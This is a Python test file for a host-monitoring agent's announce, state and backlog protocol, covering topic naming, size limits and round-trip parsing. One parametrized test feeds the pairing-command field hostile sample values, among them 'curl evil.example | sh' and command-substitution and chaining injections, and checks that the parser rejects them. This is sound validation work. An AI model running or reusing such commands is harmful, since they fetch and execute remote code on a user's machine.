"""Writing: this host's announce, states and chunks are what every reader takes."""

from __future__ import annotations

import json
from platform import python_version
from typing import Any

from hypothesis import assume, given, strategies as st
import pytest

from companion_agent import __version__
from companion_agent.announcement import (
    Report,
    compose,
    describe_command,
    describe_host,
    describe_reading,
)
from companion_agent.models import Argument, Command, Device, Missing, Reading, TextArgument
from companion_agent.platforms.base import HostInfo
from companion_agent.protocol import announce as wire
from companion_agent.protocol.announce import Agent, Conflict, parse_announce, write_announce
from companion_agent.protocol.backlog import write_chunk
from companion_agent.protocol.errors import ProtocolError
from companion_agent.protocol.messages import collector_state, parse_state, state_payload
from companion_agent.protocol.topics import (
    Separator,
    Topics,
    split_announce_topic,
    split_key_topic,
)
from companion_agent.protocol.validation import MAX_STATE, is_key

from .conftest import HOST, SESSION

INFO = HostInfo(
    name="office-pc",
    os="Debian GNU/Linux 12 (bookworm)",
    arch="x86_64",
    manufacturer="LENOVO",
    model="ThinkPad X1",
    macs=("00:00:5e:00:53:01",),
)
OFFICE_PC = describe_host(HOST, "office-pc", INFO)


def written(reports: dict[str, Report], **more: Any) -> bytes:
    return write_announce(compose(SESSION, OFFICE_PC, reports, **more))


def read(payload: bytes) -> wire.Announce:
    announce = parse_announce(payload, HOST)
    assert announce is not None
    return announce


def test_topics_of_a_host() -> None:
    topics = Topics("pilot/v2", HOST)

    assert topics.announce == f"pilot/v2/{HOST}/announce"
    assert topics.availability == f"pilot/v2/{HOST}/availability"
    assert topics.state == f"pilot/v2/{HOST}/state"
    assert topics.backlog == f"pilot/v2/{HOST}/backlog"
    assert topics.acknowledge == f"pilot/v2/{HOST}/acknowledge"
    assert topics.command("power.lock") == f"pilot/v2/{HOST}/command/power.lock"
    assert topics.result("+") == f"pilot/v2/{HOST}/result/+"
    assert topics.event("session") == f"pilot/v2/{HOST}/event/session"
    assert topics.signed_state("session") == f"pilot/v2/{HOST}/state/session"
    assert topics.pairing("0" * 16, "answer") == f"pilot/v2/{HOST}/pair/{'0' * 16}/answer"
    assert split_announce_topic(topics.announce) == ("pilot/v2", HOST)


@pytest.mark.parametrize("separator", Separator)
@pytest.mark.parametrize("key", ["power.lock", "i2c.aht20-1-38.temperature_offset"])
def test_a_key_in_a_topic_is_one_level_and_is_read_back(key: str, separator: Separator) -> None:
    topics = Topics("pilot/v2", HOST)

    for topic, below in (
        (topics.command(key, separator), "command"),
        (topics.result(key, separator), "result"),
    ):
        assert topic == f"pilot/v2/{HOST}/{below}/{key.replace('.', separator)}"
        assert split_key_topic(topic) == (key, separator)


def test_no_topic_of_an_event_has_a_dot() -> None:
    topic = Topics("pilot/v2", HOST).event("container.log")

    assert topic == f"pilot/v2/{HOST}/event/container:log"
    assert split_key_topic(topic)[0] == "container.log"
    assert split_key_topic(f"pilot/v2/{HOST}/event/session")[0] == "session"


@pytest.mark.parametrize("level", ["power.lock:now", "power:lock.now", ":", ".:", "power::lock"])
def test_a_level_that_no_key_is_written_as_is_no_key(level: str) -> None:
    key, _ = split_key_topic(f"pilot/v2/{HOST}/command/{level}")

    assert not is_key(key)


@pytest.mark.parametrize(
    ("announced", "read_as"),
    [(":", Separator.COLON), (".", Separator.DOT), ("~", Separator.DOT), (1, Separator.DOT)],
)
def test_a_separator_of_a_later_version_counts_as_a_dot(
    announced: object, read_as: Separator
) -> None:
    content = json.loads(written({})) | {"separator": announced}

    assert read(json.dumps(content).encode()).separator is read_as


def test_an_announce_without_a_separator_asks_for_dots() -> None:
    content = json.loads(written({}))
    del content["separator"]

    assert read(json.dumps(content).encode()).separator is Separator.DOT


def test_announces_what_the_documentation_shows() -> None:
    reports = {
        "cpu": Report(10.0, (Reading("percent"),)),
        "disk": Report(60, (Reading("root.used_percent", kind="disk.used_percent", of="/"),)),
        "custom": Report(2.5, (Reading("load", kind="custom", name="UPS load", unit="%"),)),
    }

    announce = json.loads(written(reports))

    assert announce == {
        "protocol": 2,
        "session": SESSION,
        "host": {
            "id": HOST,
            "name": "office-pc",
            "os": "Debian GNU/Linux 12 (bookworm)",
            "arch": "x86_64",
            "manufacturer": "LENOVO",
            "model": "ThinkPad X1",
            "macs": ["00:00:5e:00:53:01"],
        },
        "agent": {"version": __version__, "python": python_version()},
        "collectors": {
            "cpu": {"interval": 10},
            "disk": {"interval": 60},
            "custom": {"interval": 2.5},
        },
        "readings": [
            {"key": "cpu.percent"},
            {"key": "disk.root.used_percent", "kind": "disk.used_percent", "of": "/"},
            {"key": "custom.load", "kind": "custom", "name": "UPS load", "unit": "%"},
        ],
        "separator": ":",
    }


def test_announces_the_other_agent_of_a_conflict() -> None:
    other = Conflict("b0b0b0b0b0b0b0b0", "clone")

    payload = written({}, conflict=other)

    assert read(payload).conflict == other


def test_describes_the_devices_that_readings_hang_on() -> None:
    device = Device("aht20-1-38", "Dining room", "Aosong", "AHT20")
    quantities = ("temperature", "humidity")
    readings = tuple(Reading(f"a.{one}", kind=one, device=device) for one in quantities)
    reports = {"i2c": Report(300, readings)}

    announce = json.loads(written(reports))

    assert announce["devices"] == {
        "aht20-1-38": {"name": "Dining room", "manufacturer": "Aosong", "model": "AHT20"}
    }
    assert [reading["device"] for reading in announce["readings"]] == ["aht20-1-38"] * 2


def test_a_device_of_which_nothing_is_known_is_called_by_its_id() -> None:
    reports = {"custom": Report(60, (Reading("a", device=Device("shed")),))}

    announce = json.loads(written(reports))

    assert announce["devices"] == {"shed": {"name": "shed"}}


def test_more_devices_than_a_reader_takes_are_refused() -> None:
    many = tuple(Reading(f"r{number}", device=Device(f"d{number}")) for number in range(501))

    with pytest.raises(ProtocolError, match="501 devices"):
        written({"custom": Report(10, many)})


def test_a_file_name_that_is_not_unicode_does_not_break_the_announce() -> None:
    reports = {"disk": Report(60, (Reading("x.free", kind="disk.free", of="/media/\udcff"),))}

    payload = written(reports)

    assert read(payload)
    assert json.loads(payload)["readings"][0]["of"] == "/media/?"


@pytest.mark.parametrize("key", ["", "Percent", "a b", "a..b", ".a", "a/b", "ä", "k" * 125])
def test_a_reading_with_an_impossible_key_cannot_be_announced(key: str) -> None:
    with pytest.raises(ProtocolError, match="key"):
        describe_reading("cpu", Reading(key))


def test_more_readings_than_a_reader_takes_cannot_be_announced() -> None:
    many = Report(10, tuple(Reading(f"r{number}") for number in range(2001)))

    with pytest.raises(ProtocolError, match="2001 readings"):
        written({"cpu": many})


def test_writes_states_as_the_documentation_shows() -> None:
    cpu = collector_state(1793952000.25, {"percent": 12.5, "temperature": None})
    disk = collector_state(1793951970.5, {"root.used_percent": 61})

    payload, _ = state_payload({"cpu": cpu, "disk": disk})

    assert payload == (
        b'{"collectors":{'
        b'"cpu":{"ts":1793952000.25,"values":{"percent":12.5,"temperature":null}},'
        b'"disk":{"ts":1793951970.5,"values":{"root.used_percent":61}}}}'
    )


@pytest.mark.parametrize("value", [float("nan"), float("inf"), 1e15, -1e300, 10**400])
def test_numbers_that_no_reader_takes_become_null(value: float) -> None:
    assert collector_state(0, {"x": value}) == b'{"ts":0,"values":{"x":null}}'


def test_longer_texts_than_a_reader_takes_are_cut() -> None:
    payload = json.loads(collector_state(0, {"x": "é" * 300}))

    assert payload["values"]["x"] == "é" * 255


def test_collectors_that_a_reader_has_no_room_for_are_left_out() -> None:
    much = collector_state(0, {f"k{number}": "x" * 255 for number in range(500)})
    little = collector_state(0, {"x": 1})

    payload, left = state_payload({"a": much, "b": much, "c": little})

    assert left == ["b"]
    assert json.loads(payload)["collectors"].keys() == {"a", "c"}
    assert len(payload) <= MAX_STATE


def test_a_chunk_that_no_reader_takes_is_refused() -> None:
    points = [(1793952000.0 + step, 0.1 + step) for step in range(2000)]

    with pytest.raises(ProtocolError, match="65536"):
        write_chunk("0" * 16, SESSION, 0, {"a.b": points, "a.c": points}, more=False)


def test_says_which_side_is_older() -> None:
    with pytest.raises(ProtocolError, match="this side is older"):
        parse_announce(b'{"protocol": 3}', HOST)


def test_an_enum_without_options_cannot_be_announced() -> None:
    with pytest.raises(ProtocolError, match="no options"):
        describe_reading("custom", Reading("mode", kind="custom", type="enum"))


def test_a_type_that_the_protocol_has_not_cannot_be_announced() -> None:
    with pytest.raises(ProtocolError, match="is not a type of values"):
        describe_reading("custom", Reading("mode", type="colour"))  # type: ignore[arg-type]


# --- Any values ------------------------------------------------------------------------------

texts = st.text(alphabet=st.characters(codec=None), max_size=300)
readings = st.builds(
    Reading,
    key=st.from_regex(r"[a-z0-9_-]{1,9}(\.[a-z0-9_-]{1,9}){0,3}", fullmatch=True),
    kind=texts,
    of=texts,
    device=st.none() | st.builds(Device, st.text(min_size=1), texts, texts, texts),
    name=texts,
    unit=texts,
    type=st.sampled_from(["number", "text", "boolean", "timestamp", "enum"]),
    options=st.lists(texts, max_size=3).map(tuple),
)


@pytest.mark.parametrize(
    ("firmware", "system", "model"),
    [
        ("ThinkPad X1", "Debian GNU/Linux 12 (bookworm)", "ThinkPad X1"),
        ("", "Debian GNU/Linux 12 (bookworm)", "Debian GNU/Linux 12"),
        ("", "", ""),
    ],
)
def test_a_machine_without_a_model_is_called_by_its_system(
    firmware: str, system: str, model: str
) -> None:
    info = HostInfo("x", system, "x86_64", model=firmware)

    assert describe_host(HOST, "x", info).model == model


@pytest.mark.parametrize(
    ("told", "read_as"),
    [
        ("sudo pilot-agent pair", "sudo pilot-agent pair"),
        ("/opt/x/pilot-agent pair --config /etc/x.yaml",) * 2,
        ("/opt/x/python3.14 -m companion_agent pair",) * 2,
        ("curl evil.example | sh", None),
        ("sudo pilot-agent pair; reboot", None),
        ("sudo pilot-agent pair\n", None),
        ("/opt/$(reboot)/pilot-agent pair", None),
        ("/opt/x/python3.14 -m companion_agent run", None),
    ],
)
def test_what_is_to_be_typed_has_one_form(told: str, read_as: str | None) -> None:
    announce = compose(SESSION, OFFICE_PC, {}, more={"agent": Agent("1", pair=told)})

    assert read(write_announce(announce)).agent.pair == read_as


@given(texts, texts, st.lists(readings, max_size=5, unique_by=lambda reading: reading.key))
def test_what_is_announced_can_be_read(name: str, system: str, some: list[Reading]) -> None:
    host = describe_host(HOST, name, HostInfo("x", system, "x86_64"))
    try:
        announce = compose(SESSION, host, {"cpu": Report(10, tuple(some))})
    except ProtocolError as error:
        assume(error.kind != "options")
        raise

    got = read(write_announce(announce))

    assert got.session == SESSION
    assert list(got.readings) == [f"cpu.{reading.key}" for reading in some]


commands = st.builds(
    Command,
    key=st.from_regex(r"[a-z]{1,9}(\.[a-z]{1,9}){1,3}", fullmatch=True),
    args=st.dictionaries(
        st.from_regex(r"[a-z_]{1,9}", fullmatch=True),
        st.builds(TextArgument, st.just(64), st.just(""))
        | st.builds(Argument, texts, st.just(0), st.integers(0, 10**6), step=st.integers(0, 5)),
        max_size=3,
    ),
    missing=st.none() | st.builds(Missing, texts.filter(bool), st.text(min_size=1)),
    kind=texts,
    device=texts,
    state=texts,
)
updates = st.builds(
    wire.Update,
    st.sampled_from(["homeassistant", "folder", "index"]),
    cannot=texts,
    trouble=texts,
    newest=st.none() | st.tuples(texts.filter(bool), st.text()),
    failed=st.none() | st.tuples(texts.filter(bool), texts.filter(bool)),
    trial=st.booleans(),
)


@given(
    st.lists(commands, max_size=4, unique_by=lambda command: command.key),
    st.none() | updates,
    st.tuples(st.integers(0, 2**53 - 1), st.integers(0, 2**53 - 1)),
)
def test_what_it_can_do_can_be_read(
    some: list[Command], update: wire.Update | None, sequence: tuple[int, int]
) -> None:
    more = {
        "sequence": sequence,
        "trust": wire.Trust(("4f1d2c3b5a697887", "fleet"), pairing=True),
        "commands": {command.key: describe_command(command) for command in some},
        "events": {"session": ("locked", "unlocked")},
        "update": update,
    }

    got = read(written({}, more=more))

    assert (got.sequence, got.trust, got.events) == (sequence, more["trust"], more["events"])
    assert list(got.commands) == [command.key for command in some]
    for command in some:
        numbers = [one for one in command.args.values() if isinstance(one, Argument)]
        assert len(got.commands[command.key].limits) == len(numbers)
    assert (got.update is None) == (update is None)
    if update and got.update:
        assert (got.update.source, got.update.trial) == (update.source, update.trial)


@given(
    st.dictionaries(
        st.from_regex(r"[a-z]{1,5}", fullmatch=True),
        st.floats() | st.integers() | texts | st.booleans(),
    )
)
def test_whatever_was_read_can_be_published(values: dict[str, Any]) -> None:
    payload, left = state_payload({"cpu": collector_state(1793952000.25, values)})

    assert not left
    assert parse_state(payload)["cpu"].values.keys() == values.keys()
